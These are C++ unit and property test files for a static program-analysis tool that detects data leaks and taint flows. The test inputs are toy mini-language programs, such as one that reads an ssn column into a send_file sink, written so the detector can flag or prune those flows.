  EXPECT_GT(warm_hits, 50u);
}

// ---- Edit-sequence fuzzer -------------------------------------------------
//
// The fuzzer mutates a small DB client for N steps, re-generating the
// source from a state struct so every revision parses by construction.
// The warm path carries one cache (analyzer + lint) across all steps and
// runs on a pool; the cold path is cache-off and serial — so a mismatch
// catches either a stale cache entry or a pool-order dependence.

struct FuzzState {
  int threshold = 10;
  int extra_vars = 0;
  int leaf_fns = 0;
  bool alt_sink = false;
};

std::string GenerateSource(const FuzzState& state) {
  std::string src;
  src += "fn main() {\n";
  src += "  var cmd = scan();\n";
  src += "  while (!is_null(cmd)) {\n";
  src += "    process(cmd);\n";
  for (int k = 0; k < state.leaf_fns; ++k) {
    src += "    leaf_" + std::to_string(k) + "(cmd);\n";
  }
  src += "    cmd = scan();\n";
  src += "  }\n";
  src += "}\n\n";

  src += "fn process(id) {\n";
  src += "  var r = db_query(\"SELECT id, name FROM items\");\n";
  src += "  var n = db_ntuples(r);\n";
  for (int k = 0; k < state.extra_vars; ++k) {
    src += "  var zz_" + std::to_string(k) + " = " +
           std::to_string(k * 3 + 1) + ";\n";
  }
  src += "  var i = 0;\n";
  src += "  var acc = 0;\n";
  src += "  while (i < n) {\n";
  src += "    var v = db_getvalue(r, i, 1);\n";
  src += "    if (len(v) > " + std::to_string(state.threshold) + ") {\n";
  src += "      acc = acc + 1;\n";
  src += "    }\n";
  src += "    i = i + 1;\n";
  src += "  }\n";
  src += "  if (acc > 2) {\n";
  src += "    report(db_getvalue(r, 0, 0));\n";
  src += "  }\n";
  src += "}\n\n";

  src += "fn report(msg) {\n";
  src += std::string("  ") + (state.alt_sink ? "print_err" : "print") +
         "(msg);\n";
  src += "}\n";

  for (int k = 0; k < state.leaf_fns; ++k) {
    const std::string id = std::to_string(k);
    src += "\nfn leaf_" + id + "(x) {\n";
    src += "  if (len(x) > " + id + ") {\n";
    src += "    print(\"leaf_" + id + "\");\n";
    src += "  }\n";
    src += "}\n";
  }
  return src;
}

void Mutate(FuzzState* state, util::Rng* rng) {
  switch (rng->UniformInt(0, 3)) {
    case 0:
      state->threshold = static_cast<int>(rng->UniformInt(1, 99));
      break;
    case 1:
      state->extra_vars += 1;
      break;
    case 2:
      state->leaf_fns += 1;
      break;
    default:
      state->alt_sink = !state->alt_sink;
      break;
  }
}

TEST(IncrementalPropertyTest, EditSequenceFuzzerWarmEqualsColdEveryStep) {
  auto catalog = db::BuildSchemaCatalog(
      {"CREATE TABLE items (id INT, name TEXT)"});
  ASSERT_TRUE(catalog.ok());

  util::Rng rng(20260809);
  util::ThreadPool pool(3);
  FuzzState state;
  AnalysisCache analyzer_cache;
  AnalysisCache lint_cache;
  size_t warm_hits = 0;

  constexpr int kSteps = 8;
  for (int step = 0; step <= kSteps; ++step) {
    if (step > 0) Mutate(&state, &rng);
    const std::string label = "step " + std::to_string(step);
    const prog::Program program = Parse(GenerateSource(state));

    core::AnalyzerOptions cold_options;
    cold_options.incremental = false;
    cold_options.schemas = *catalog;
    const core::AnalysisResult cold = AnalyzeOrDie(program, cold_options);

    core::AnalyzerOptions warm_options;
    warm_options.schemas = *catalog;
    warm_options.analysis_cache = &analyzer_cache;
    warm_options.pool = &pool;
    const core::AnalysisResult warm = AnalyzeOrDie(program, warm_options);
    ExpectSameAnalysis(cold, warm, label);
    warm_hits += warm.cache_stats.taint.hits +
                 warm.cache_stats.absint.hits +
                 warm.cache_stats.forecast.hits;

    EXPECT_EQ(LintJson(program, &lint_cache, &pool, *catalog),
              LintJson(program, nullptr, nullptr, *catalog))
        << label;
  }
  // Most mutations touch one function; the carried cache must have
  // served the untouched ones.
  EXPECT_GT(warm_hits, 0u);
}

}  // namespace
}  // namespace adprom::analysis
