// Unit tests of the demand-driven leakage-witness engine: plain
// reachability matches the flow-sensitive taint facts, the feasibility
// filter prunes contradicting-guard flows, witnesses trace real CFG
// paths through callees, and column resolution expands SELECT * via the
// schema catalog.

#include "analysis/dataflow/ifds.h"

#include <gtest/gtest.h>

#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "prog/program.h"

namespace adprom::analysis::dataflow {
namespace {

prog::Program Parse(const std::string& source) {
  auto program = prog::ParseProgram(source);
  EXPECT_TRUE(program.ok()) << program.status().ToString();
  return std::move(*program);
}

IfdsResult RunOn(const std::string& source, IfdsOptions options = {}) {
  const prog::Program program = Parse(source);
  auto result = RunIfdsTaint(program, options);
  EXPECT_TRUE(result.ok()) << result.status().ToString();
  return std::move(*result);
}

std::string ReadFileOrDie(const std::string& path) {
  std::ifstream in(path);
  EXPECT_TRUE(in.good()) << path;
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

// The witness demo: the tainted value only reaches `out` when mode < 1,
// and send_file only runs when mode > 0.
const char* kGuardedLeak = R"(
fn fetch_secret(r, idx) {
  return db_getvalue(r, idx, 1);
}

fn main() {
  var mode = to_int(scan());
  var r = db_query("SELECT name, ssn FROM patients");
  var out = "summary";
  if (mode < 1) {
    out = fetch_secret(r, 0);
  }
  if (mode > 0) {
    send_file(out);
  }
  print(out);
}
)";

TEST(IfdsTest, RequiresFinalizedProgram) {
  prog::Program program;
  auto result = RunIfdsTaint(program, {});
  EXPECT_FALSE(result.ok());
}

TEST(IfdsTest, StraightLineFlowIsLabeledAndFeasible) {
  const IfdsResult result = RunOn(R"(
fn main() {
  var r = db_query("SELECT a FROM t");
  print(r);
}
)");
  ASSERT_EQ(result.taint.labeled_sinks.size(), 1u);
  EXPECT_TRUE(result.pruned_sinks.empty());
  EXPECT_EQ(result.stats.pruned_facts, 0u);
  ASSERT_EQ(result.witnesses.size(), 1u);
  EXPECT_TRUE(result.witnesses[0].feasible);
  EXPECT_EQ(result.witnesses[0].source_call, "db_query");
  EXPECT_EQ(result.witnesses[0].sink_call, "print");
}

TEST(IfdsTest, SanitizerCutsTheFlow) {
  IfdsOptions options;
  options.sanitizer_calls = {"to_int"};
  const IfdsResult result = RunOn(R"(
fn main() {
  var r = db_query("SELECT a FROM t");
  print(to_int(r));
}
)",
                                  options);
  EXPECT_TRUE(result.taint.labeled_sinks.empty());
  EXPECT_TRUE(result.witnesses.empty());
}

TEST(IfdsTest, ContradictingGuardsArePruned) {
  const IfdsResult result = RunOn(kGuardedLeak);
  // The print sink keeps both facts (feasible: print runs on all paths).
  std::set<std::string> feasible_sinks;
  std::set<std::string> pruned_sinks;
  for (const LeakWitness& w : result.witnesses) {
    (w.feasible ? &feasible_sinks : &pruned_sinks)->insert(w.sink_call);
  }
  EXPECT_TRUE(feasible_sinks.count("print") > 0);
  // send_file facts are provably infeasible: mode < 1 contradicts
  // mode > 0.
  EXPECT_TRUE(pruned_sinks.count("send_file") > 0);
  EXPECT_FALSE(feasible_sinks.count("send_file") > 0);
  ASSERT_FALSE(result.pruned_sinks.empty());
  EXPECT_EQ(result.stats.pruned_facts, 2u);  // db_query + db_getvalue tokens
  // The pruned witness names the refuted branch.
  for (const LeakWitness& w : result.witnesses) {
    if (w.feasible) continue;
    EXPECT_GT(w.pruned_line, 0);
    EXPECT_NE(w.pruned_condition.find("mode"), std::string::npos)
        << FormatWitness(w);
  }
}

TEST(IfdsTest, FilterOffKeepsEveryFact) {
  IfdsOptions options;
  options.feasibility_filter = false;
  const IfdsResult result = RunOn(kGuardedLeak, options);
  EXPECT_TRUE(result.pruned_sinks.empty());
  std::set<std::string> sinks;
  for (const LeakWitness& w : result.witnesses) {
    EXPECT_TRUE(w.feasible);
    sinks.insert(w.sink_call);
  }
  EXPECT_TRUE(sinks.count("send_file") > 0);
}

TEST(IfdsTest, CompatibleGuardsSurviveTheFilter) {
  // Same shape, but both guards agree (mode > 0 twice): nothing prunes.
  const IfdsResult result = RunOn(R"(
fn main() {
  var mode = to_int(scan());
  var r = db_query("SELECT a FROM t");
  var out = "summary";
  if (mode > 0) {
    out = r;
  }
  if (mode > 0) {
    send_file(out);
  }
}
)");
  EXPECT_TRUE(result.pruned_sinks.empty());
  ASSERT_EQ(result.witnesses.size(), 1u);
  EXPECT_TRUE(result.witnesses[0].feasible);
  EXPECT_EQ(result.witnesses[0].sink_call, "send_file");
}

TEST(IfdsTest, WitnessCrossesCalleeViaSummary) {
  const IfdsResult result = RunOn(R"(
fn leak(v) {
  send_net("collector", v);
}

fn main() {
  var r = db_query("SELECT a FROM t");
  leak(r);
}
)");
  ASSERT_EQ(result.witnesses.size(), 1u);
  const LeakWitness& w = result.witnesses[0];
  EXPECT_TRUE(w.feasible);
  EXPECT_EQ(w.sink_call, "send_net");
  // The path starts in main and ends on the sink call inside `leak`.
  ASSERT_FALSE(w.steps.empty());
  EXPECT_EQ(w.steps.front().function, "main");
  EXPECT_EQ(w.steps.back().function, "leak");
  EXPECT_NE(w.steps.back().text.find("send_net"), std::string::npos);
}

TEST(IfdsTest, ObligationFeasibilityIsCheckedInTheCallee) {
  // The callee's own guard pair makes the sink unreachable for its
  // parameter: the caller-side fact must be pruned through the
  // obligation, even though the caller has no branches at all.
  const IfdsResult result = RunOn(R"(
fn maybe_leak(v, mode) {
  var out = "summary";
  if (mode < 1) {
    out = v;
  }
  if (mode > 0) {
    send_file(out);
  }
}

fn main() {
  var r = db_query("SELECT a FROM t");
  maybe_leak(r, to_int(scan()));
}
)");
  EXPECT_TRUE(result.taint.labeled_sinks.empty());
  ASSERT_EQ(result.pruned_sinks.size(), 1u);
  EXPECT_EQ(result.stats.pruned_facts, 1u);
}

TEST(IfdsTest, WitnessStepsAreRealCfgEdges) {
  const IfdsResult result = RunOn(kGuardedLeak);
  const prog::Program program = Parse(kGuardedLeak);
  for (const LeakWitness& w : result.witnesses) {
    // Consecutive steps within one function must be connected in its
    // flow graph (steps may skip join/exit nodes, so check reachability
    // over a bounded number of structural hops).
    ASSERT_FALSE(w.steps.empty()) << FormatWitness(w);
    for (const WitnessStep& s : w.steps) {
      EXPECT_NE(program.FindFunction(s.function), nullptr);
      EXPECT_GE(s.node_id, 0);
    }
  }
}

TEST(IfdsTest, FormatWitnessShowsBranchesAndPrunes) {
  const IfdsResult result = RunOn(kGuardedLeak);
  bool saw_pruned = false;
  for (const LeakWitness& w : result.witnesses) {
    const std::string text = FormatWitness(w);
    if (w.feasible) continue;
    saw_pruned = true;
    EXPECT_NE(text.find("[infeasible]"), std::string::npos) << text;
    EXPECT_NE(text.find("pruned: line"), std::string::npos) << text;
    EXPECT_NE(text.find("[takes "), std::string::npos) << text;
  }
  EXPECT_TRUE(saw_pruned);
}

TEST(IfdsTest, WitnessToDotIsWellFormed) {
  const IfdsResult result = RunOn(kGuardedLeak);
  ASSERT_FALSE(result.witnesses.empty());
  for (const LeakWitness& w : result.witnesses) {
    const std::string dot = WitnessToDot(w);
    EXPECT_EQ(dot.rfind("digraph witness {", 0), 0u);
    EXPECT_NE(dot.find("}\n"), std::string::npos);
    if (!w.feasible) {
      EXPECT_NE(dot.find("REFUTED"), std::string::npos) << dot;
    }
  }
}

TEST(IfdsTest, SourceColumnsParseStaticQueries) {
  const prog::Program program = Parse(R"(
fn main() {
  var r = db_query("SELECT name, ssn FROM patients");
  var s = db_query("SELECT * FROM patients");
  var t = db_query("SELECT * FROM unknown_table");
  var u = db_query(scan());
  print(r);
}
)");
  std::vector<const prog::Expr*> queries;
  for (const auto& fn : program.functions()) {
    for (const auto& stmt : fn.body) {
      if (stmt->expr != nullptr) prog::CollectCalls(*stmt->expr, &queries);
    }
  }
  std::vector<const prog::Expr*> db_queries;
  for (const prog::Expr* call : queries) {
    if (call->name == "db_query") db_queries.push_back(call);
  }
  ASSERT_EQ(db_queries.size(), 4u);

  auto catalog = db::BuildSchemaCatalog(
      {"CREATE TABLE patients (name TEXT, ssn TEXT)"});
  ASSERT_TRUE(catalog.ok());

  EXPECT_EQ(SourceColumnsForCall(*db_queries[0], *catalog),
            (std::vector<std::string>{"patients.name", "patients.ssn"}));
  // SELECT * expands through the catalog.
  EXPECT_EQ(SourceColumnsForCall(*db_queries[1], *catalog),
            (std::vector<std::string>{"patients.name", "patients.ssn"}));
  // Unknown table: the wildcard stays symbolic.
  EXPECT_EQ(SourceColumnsForCall(*db_queries[2], *catalog),
            (std::vector<std::string>{"unknown_table.*"}));
  // Dynamic query text: no columns.
  EXPECT_TRUE(SourceColumnsForCall(*db_queries[3], *catalog).empty());
}

TEST(IfdsTest, ColumnsFlowIntoResultMaps) {
  IfdsOptions options;
  auto catalog = db::BuildSchemaCatalog(
      {"CREATE TABLE patients (name TEXT, ssn TEXT)"});
  ASSERT_TRUE(catalog.ok());
  options.schemas = *catalog;
  const IfdsResult result = RunOn(R"(
fn main() {
  var r = db_query("SELECT * FROM patients");
  print(r);
}
)",
                                  options);
  ASSERT_EQ(result.source_columns.size(), 1u);
  EXPECT_EQ(result.source_columns.begin()->second,
            (std::vector<std::string>{"patients.name", "patients.ssn"}));
  ASSERT_EQ(result.sink_columns.size(), 1u);
  EXPECT_EQ(result.sink_columns.begin()->second,
            (std::vector<std::string>{"patients.name", "patients.ssn"}));
  ASSERT_EQ(result.witnesses.size(), 1u);
  EXPECT_EQ(result.witnesses[0].columns,
            (std::vector<std::string>{"patients.name", "patients.ssn"}));
}

TEST(IfdsTest, ColumnTaintCanBeDisabled) {
  IfdsOptions options;
  options.column_taint = false;
  const IfdsResult result = RunOn(R"(
fn main() {
  var r = db_query("SELECT a FROM t");
  print(r);
}
)",
                                  options);
  EXPECT_TRUE(result.source_columns.empty());
  EXPECT_TRUE(result.sink_columns.empty());
  EXPECT_FALSE(result.taint.labeled_sinks.empty());
}

TEST(IfdsTest, RecursiveFunctionsConvergeAndKeepFacts) {
  const IfdsResult result = RunOn(R"(
fn walk(v, n) {
  if (n > 0) {
    walk(v, n - 1);
  }
  send_net("collector", v);
}

fn main() {
  var r = db_query("SELECT a FROM t");
  walk(r, 3);
}
)");
  // Recursion skips the feasibility filter: the fact survives.
  ASSERT_EQ(result.taint.labeled_sinks.size(), 1u);
  EXPECT_TRUE(result.pruned_sinks.empty());
}

TEST(IfdsTest, DemoSampleMatchesHandAnalysis) {
  const std::string source =
      ReadFileOrDie(std::string(ADPROM_SOURCE_DIR) +
                    "/samples/witness/leak.mini");
  const IfdsResult result = RunOn(source);
  size_t pruned_send_file = 0;
  for (const LeakWitness& w : result.witnesses) {
    if (w.sink_call == "send_file") {
      EXPECT_FALSE(w.feasible) << FormatWitness(w);
      ++pruned_send_file;
    }
    if (w.sink_call == "print") {
      EXPECT_TRUE(w.feasible) << FormatWitness(w);
    }
  }
  EXPECT_EQ(pruned_send_file, 2u);
}

TEST(IfdsTest, StatsAreFilled) {
  const IfdsResult result = RunOn(kGuardedLeak);
  EXPECT_EQ(result.stats.functions, 2u);
  EXPECT_GT(result.stats.demanded_solves, 0u);
  EXPECT_GT(result.stats.sink_facts, 0u);
  EXPECT_GT(result.stats.exploded_nodes, 0u);
  EXPECT_GT(result.stats.summary_edges, 0u);
}

}  // namespace
}  // namespace adprom::analysis::dataflow
