// Property tests of the flow-sensitive taint pass on generator-fuzzed
// programs: its labels are a subset of the flow-insensitive pass's labels
// (strong updates only ever remove spurious flows), the fixpoint is
// bit-identical for every thread-pool size, and the Analyzer's ablation
// flag reproduces the legacy pass exactly. (That dynamic taint stays
// statically covered under the flow-sensitive default is checked
// end-to-end by core/taint_property_test.cc.)

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "analysis/dataflow/taint_flow.h"
#include "analysis/taint.h"
#include "core/analyzer.h"
#include "prog/generator.h"
#include "prog/printer.h"
#include "util/thread_pool.h"

namespace adprom::analysis::dataflow {
namespace {

class TaintFlowPropertyTest : public ::testing::TestWithParam<uint64_t> {
 protected:
  prog::Program Generate() {
    util::Rng rng(GetParam());
    prog::GeneratorOptions options;
    options.with_db_calls = true;
    options.num_functions = 3;
    options.max_depth = 2;
    options.max_block_statements = 4;
    auto program = prog::GenerateRandomProgram(options, rng);
    EXPECT_TRUE(program.ok());
    return std::move(program).value();
  }
};

TEST_P(TaintFlowPropertyTest, FlowSensitiveLabelsAreASubset) {
  const prog::Program program = Generate();
  const TaintConfig config = TaintConfig::Default();
  auto fs = RunFlowSensitiveTaint(program, config);
  auto fi = RunTaintAnalysis(program, config);
  ASSERT_TRUE(fs.ok()) << fs.status().ToString();
  ASSERT_TRUE(fi.ok()) << fi.status().ToString();
  for (const auto& [site, sources] : fs->labeled_sinks) {
    auto it = fi->labeled_sinks.find(site);
    ASSERT_NE(it, fi->labeled_sinks.end())
        << "flow-sensitive labeled site " << site
        << " that the flow-insensitive pass does not, in:\n"
        << prog::ProgramToSource(program);
    for (int source : sources) {
      EXPECT_TRUE(it->second.count(source) > 0)
          << "site " << site << " source " << source << " in:\n"
          << prog::ProgramToSource(program);
    }
  }
}

TEST_P(TaintFlowPropertyTest, FixpointIsIdenticalForEveryPoolSize) {
  const prog::Program program = Generate();
  const TaintConfig config = TaintConfig::Default();
  auto serial = RunFlowSensitiveTaint(program, config, nullptr);
  ASSERT_TRUE(serial.ok()) << serial.status().ToString();
  for (size_t threads : {1u, 2u, 4u}) {
    util::ThreadPool pool(threads);
    auto pooled = RunFlowSensitiveTaint(program, config, &pool);
    ASSERT_TRUE(pooled.ok()) << pooled.status().ToString();
    EXPECT_TRUE(pooled->labeled_sinks == serial->labeled_sinks &&
                pooled->tainted_vars == serial->tainted_vars)
        << "pool size " << threads << " diverged on:\n"
        << prog::ProgramToSource(program);
  }
}

TEST_P(TaintFlowPropertyTest, AblationFlagReproducesLegacyPass) {
  const prog::Program program = Generate();

  core::AnalyzerOptions legacy_options;
  legacy_options.flow_insensitive_taint = true;
  core::Analyzer legacy(legacy_options);
  auto legacy_result = legacy.Analyze(program);
  ASSERT_TRUE(legacy_result.ok()) << legacy_result.status().ToString();
  auto fi = RunTaintAnalysis(program, TaintConfig::Default());
  ASSERT_TRUE(fi.ok());
  EXPECT_TRUE(legacy_result->taint.labeled_sinks == fi->labeled_sinks &&
              legacy_result->taint.tainted_vars == fi->tainted_vars);

  core::Analyzer modern;
  auto modern_result = modern.Analyze(program);
  ASSERT_TRUE(modern_result.ok()) << modern_result.status().ToString();
  auto fs = RunFlowSensitiveTaint(program, TaintConfig::Default());
  ASSERT_TRUE(fs.ok());
  EXPECT_TRUE(modern_result->taint.labeled_sinks == fs->labeled_sinks &&
              modern_result->taint.tainted_vars == fs->tainted_vars);
}

INSTANTIATE_TEST_SUITE_P(Seeds, TaintFlowPropertyTest,
                         ::testing::Range<uint64_t>(100, 120));

}  // namespace
}  // namespace adprom::analysis::dataflow
