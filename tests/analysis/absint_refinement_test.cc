// Integration tests for the abstract-interpretation refinement: the CFG
// refiner's pruned edges and loop bounds, the sharpened forecast on a
// diamond-with-loop CFG (hand-computed, refinement on and off), the
// bit-identity of --no-absint with the unrefined pipeline, and the
// determinism of the refined pipeline for any thread count.

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "analysis/absint/cfg_refiner.h"
#include "analysis/absint/engine.h"
#include "analysis/ctm.h"
#include "core/analyzer.h"
#include "prog/cfg.h"
#include "prog/program.h"
#include "util/thread_pool.h"

namespace adprom::analysis::absint {
namespace {

// A diamond (constant guard, so one arm is infeasible) feeding a counted
// loop: the shape that exercises every refinement at once.
constexpr const char* kDiamondWithLoop = R"(
fn main() {
  print("top");
  var x = 1;
  if (x > 0) { print("left"); } else { print("right"); }
  var i = 0;
  while (i < 3) { print("body"); i = i + 1; }
  print("end");
}
)";

util::Result<core::AnalysisResult> Analyze(const std::string& source,
                                           bool absint,
                                           util::ThreadPool* pool = nullptr) {
  auto program = prog::ParseProgram(source);
  if (!program.ok()) return program.status();
  core::AnalyzerOptions options;
  options.absint_refinement = absint;
  options.pool = pool;
  core::Analyzer analyzer(std::move(options));
  return analyzer.Analyze(*program);
}

// Site indices in textual (call-site) order. CTM site order follows the
// CFG's topological sort, which can reorder a node whose incoming edges
// were all pruned; call_site_id is stable across refinement.
std::vector<int> SitesInParseOrder(const Ctm& ctm) {
  std::vector<int> order(ctm.num_sites());
  for (size_t i = 0; i < order.size(); ++i) order[i] = static_cast<int>(i);
  std::sort(order.begin(), order.end(), [&ctm](int a, int b) {
    return ctm.site(static_cast<size_t>(a)).call_site_id <
           ctm.site(static_cast<size_t>(b)).call_site_id;
  });
  return order;
}

void ExpectCtmsIdentical(const Ctm& a, const Ctm& b) {
  ASSERT_EQ(a.num_sites(), b.num_sites());
  EXPECT_EQ(a.entry_to_exit(), b.entry_to_exit());
  for (size_t i = 0; i < a.num_sites(); ++i) {
    EXPECT_EQ(a.site(i).Key(), b.site(i).Key());
    EXPECT_EQ(a.entry_to(i), b.entry_to(i)) << "entry_to " << i;
    EXPECT_EQ(a.to_exit(i), b.to_exit(i)) << "to_exit " << i;
    for (size_t j = 0; j < a.num_sites(); ++j) {
      EXPECT_EQ(a.between(i, j), b.between(i, j))
          << "between " << i << "," << j;
    }
  }
}

TEST(CfgRefinerTest, PrunesEdgesAndBoundsLoops) {
  auto program = prog::ParseProgram(kDiamondWithLoop);
  ASSERT_TRUE(program.ok());
  auto cfgs = prog::BuildAllCfgs(*program);
  ASSERT_TRUE(cfgs.ok());
  auto absint = RunAbstractInterpretation(*program);
  ASSERT_TRUE(absint.ok());

  const RefinementSummary summary = RefineCfgs(*absint, &cfgs.value());
  // The dead else-arm edge and the loop's zero-iteration skip edge.
  EXPECT_EQ(summary.pruned_edges, 2u);
  EXPECT_EQ(summary.bounded_loops, 1u);

  const prog::Cfg& cfg = cfgs->at("main");
  EXPECT_EQ(cfg.infeasible_edges().size(), 2u);
  ASSERT_EQ(cfg.loop_bounds().size(), 1u);
  EXPECT_EQ(cfg.loop_bounds().begin()->second, 3);

  // The DOT dump renders both refinements.
  const std::string dot = cfg.ToDot();
  EXPECT_NE(dot.find("infeasible"), std::string::npos);
  EXPECT_NE(dot.find("trips=3"), std::string::npos);
}

TEST(ForecastRefinementTest, UnrefinedDiamondWithLoopIsUniform) {
  auto analysis = Analyze(kDiamondWithLoop, /*absint=*/false);
  ASSERT_TRUE(analysis.ok()) << analysis.status().ToString();
  const Ctm& m = analysis->function_ctms.at("main");
  ASSERT_EQ(m.num_sites(), 5u);
  const std::vector<int> order = SitesInParseOrder(m);
  const int top = order[0];
  const int left = order[1];
  const int right = order[2];
  const int body = order[3];
  const int end = order[4];

  // Eq. 1 uniform branch split, loop body counted once (run-once).
  EXPECT_DOUBLE_EQ(m.entry_to(top), 1.0);
  EXPECT_DOUBLE_EQ(m.between(top, left), 0.5);
  EXPECT_DOUBLE_EQ(m.between(top, right), 0.5);
  EXPECT_DOUBLE_EQ(m.between(left, body), 0.25);
  EXPECT_DOUBLE_EQ(m.between(left, end), 0.25);
  EXPECT_DOUBLE_EQ(m.between(right, body), 0.25);
  EXPECT_DOUBLE_EQ(m.between(right, end), 0.25);
  EXPECT_DOUBLE_EQ(m.between(body, body), 0.0);
  EXPECT_DOUBLE_EQ(m.between(body, end), 0.5);
  EXPECT_DOUBLE_EQ(m.to_exit(end), 1.0);
  EXPECT_TRUE(m.CheckInvariants().ok());

  EXPECT_EQ(analysis->refinement.pruned_edges, 0u);
  EXPECT_EQ(analysis->refinement.bounded_loops, 0u);
}

TEST(ForecastRefinementTest, RefinedDiamondWithLoopSharpens) {
  auto analysis = Analyze(kDiamondWithLoop, /*absint=*/true);
  ASSERT_TRUE(analysis.ok()) << analysis.status().ToString();
  const Ctm& m = analysis->function_ctms.at("main");
  ASSERT_EQ(m.num_sites(), 5u);
  const std::vector<int> order = SitesInParseOrder(m);
  const int top = order[0];
  const int left = order[1];
  const int right = order[2];
  const int body = order[3];
  const int end = order[4];

  // The dead arm carries no probability; the taken arm is certain.
  EXPECT_DOUBLE_EQ(m.between(top, left), 1.0);
  EXPECT_DOUBLE_EQ(m.between(top, right), 0.0);
  EXPECT_DOUBLE_EQ(m.entry_to(right), 0.0);
  EXPECT_DOUBLE_EQ(m.to_exit(right), 0.0);

  // The loop provably runs 3 times: the first entry is certain, and the
  // two extra iterations surface as the wrap-around pair (body, body).
  EXPECT_DOUBLE_EQ(m.between(left, body), 1.0);
  EXPECT_DOUBLE_EQ(m.between(left, end), 0.0);
  EXPECT_DOUBLE_EQ(m.between(body, body), 2.0);
  EXPECT_DOUBLE_EQ(m.between(body, end), 1.0);
  EXPECT_DOUBLE_EQ(m.to_exit(end), 1.0);
  // Flow conservation holds with the inflated execution counts.
  EXPECT_TRUE(m.CheckInvariants().ok());

  EXPECT_EQ(analysis->refinement.pruned_edges, 2u);
  EXPECT_EQ(analysis->refinement.bounded_loops, 1u);
  EXPECT_EQ(analysis->absint.NumInfeasibleBranches(), 1u);
  EXPECT_EQ(analysis->absint.NumBoundedLoops(), 1u);
}

TEST(ForecastRefinementTest, UndecidableProgramIsBitIdenticalEitherWay) {
  // Every branch below depends on runtime input, so the refinement finds
  // nothing and the refined pipeline must be bit-identical to --no-absint.
  const char* kUndecidable = R"(
fn main() {
  var cmd = scan();
  while (!is_null(cmd)) {
    route(cmd);
    cmd = scan();
  }
}
fn route(cmd) {
  if (cmd == "q") {
    var r = db_query("SELECT a, b FROM t");
    if (is_null(r)) { print("failed"); return; }
    var n = db_ntuples(r);
    var i = 0;
    while (i < n) { print(db_getvalue(r, i, 0)); i = i + 1; }
  } else {
    print("unknown");
  }
}
)";
  auto with = Analyze(kUndecidable, /*absint=*/true);
  auto without = Analyze(kUndecidable, /*absint=*/false);
  ASSERT_TRUE(with.ok()) << with.status().ToString();
  ASSERT_TRUE(without.ok());
  EXPECT_EQ(with->refinement.pruned_edges, 0u);
  EXPECT_EQ(with->refinement.bounded_loops, 0u);
  ExpectCtmsIdentical(with->program_ctm, without->program_ctm);
  for (const auto& [name, ctm] : without->function_ctms) {
    ExpectCtmsIdentical(with->function_ctms.at(name), ctm);
  }
}

TEST(ForecastRefinementTest, RefinedPipelineDeterministicAcrossThreads) {
  const char* kInterprocedural = R"(
fn main() {
  var x = 1;
  if (x > 0) { work(3); } else { print("dead"); }
  print("done");
}
fn work(k) {
  var i = 0;
  while (i < k) { leaf(); i = i + 1; }
}
fn leaf() { print("leaf"); }
)";
  auto baseline = Analyze(kInterprocedural, /*absint=*/true);
  ASSERT_TRUE(baseline.ok()) << baseline.status().ToString();
  for (size_t threads : {2u, 5u}) {
    util::ThreadPool pool(threads);
    auto result = Analyze(kInterprocedural, /*absint=*/true, &pool);
    ASSERT_TRUE(result.ok());
    ExpectCtmsIdentical(result->program_ctm, baseline->program_ctm);
    EXPECT_EQ(result->refinement.pruned_edges,
              baseline->refinement.pruned_edges);
    EXPECT_EQ(result->refinement.bounded_loops,
              baseline->refinement.bounded_loops);
  }
}

}  // namespace
}  // namespace adprom::analysis::absint
