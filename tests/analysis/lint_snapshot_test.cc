// Corpus-wide lint snapshots: the full `adprom lint` report for every
// corpus application (and the witness demo sample) is pinned byte for
// byte under tests/analysis/goldens/. A diff here means the vetter's
// findings, their order, or a rendering changed — review the new output
// and regenerate with:
//   ADPROM_UPDATE_GOLDENS=1 ./analysis_test --gtest_filter='LintSnapshot*'

#include <gtest/gtest.h>

#include <cstdlib>
#include <fstream>
#include <sstream>
#include <string>

#include "analysis/dataflow/lint.h"
#include "apps/corpus.h"
#include "prog/program.h"

namespace adprom::analysis::dataflow {
namespace {

#ifndef ADPROM_SOURCE_DIR
#define ADPROM_SOURCE_DIR "."
#endif

std::string GoldenPath(const std::string& name) {
  return std::string(ADPROM_SOURCE_DIR) + "/tests/analysis/goldens/" + name;
}

std::string ReadFileOrDie(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  EXPECT_TRUE(in.good()) << "cannot open " << path
                         << " (regenerate with ADPROM_UPDATE_GOLDENS=1)";
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

void CompareOrUpdate(const std::string& golden_name,
                     const std::string& actual) {
  if (std::getenv("ADPROM_UPDATE_GOLDENS") != nullptr) {
    std::ofstream out(GoldenPath(golden_name), std::ios::binary);
    ASSERT_TRUE(out.good()) << GoldenPath(golden_name);
    out << actual;
    return;
  }
  EXPECT_EQ(actual, ReadFileOrDie(GoldenPath(golden_name))) << golden_name;
}

LintReport LintSource(const std::string& source, LintOptions options = {}) {
  auto program = prog::ParseProgram(source);
  EXPECT_TRUE(program.ok()) << program.status().ToString();
  auto report = RunLint(*program, options);
  EXPECT_TRUE(report.ok()) << report.status().ToString();
  return std::move(*report);
}

TEST(LintSnapshotTest, CorpusReportsMatchGoldens) {
  for (const apps::CorpusApp& app : apps::MakeFullCorpus()) {
    const LintReport report = LintSource(app.source);
    CompareOrUpdate(app.name + ".lint.txt",
                    report.Format(app.name + ".mini"));
  }
}

TEST(LintSnapshotTest, BankingAppJsonMatchesGolden) {
  // The machine-readable rendering, witness attached to the injection
  // finding: pins the stable field order end to end.
  LintOptions options;
  options.witnesses = true;
  const LintReport report =
      LintSource(apps::MakeBankingApp().source, options);
  CompareOrUpdate("App_b.lint.json", report.FormatJson("App_b.mini"));
}

TEST(LintSnapshotTest, WitnessDemoMatchesGoldens) {
  const std::string source = ReadFileOrDie(
      std::string(ADPROM_SOURCE_DIR) + "/samples/witness/leak.mini");
  LintOptions options;
  options.monitored.sink_calls = {"print", "print_err"};
  options.witnesses = true;
  const LintReport report = LintSource(source, options);

  // Text: the report plus every witness, as `adprom lint --witnesses`
  // renders them.
  std::string text = report.Format("leak.mini");
  for (const LeakWitness& w : report.witnesses) {
    text += "\n" + FormatWitness(w);
  }
  CompareOrUpdate("leak.lint.txt", text);
  CompareOrUpdate("leak.lint.json", report.FormatJson("leak.mini"));
}

}  // namespace
}  // namespace adprom::analysis::dataflow
