#include "analysis/ctm.h"

#include <gtest/gtest.h>

namespace adprom::analysis {
namespace {

Site MakeSite(const std::string& fn, int block, const std::string& callee) {
  Site site;
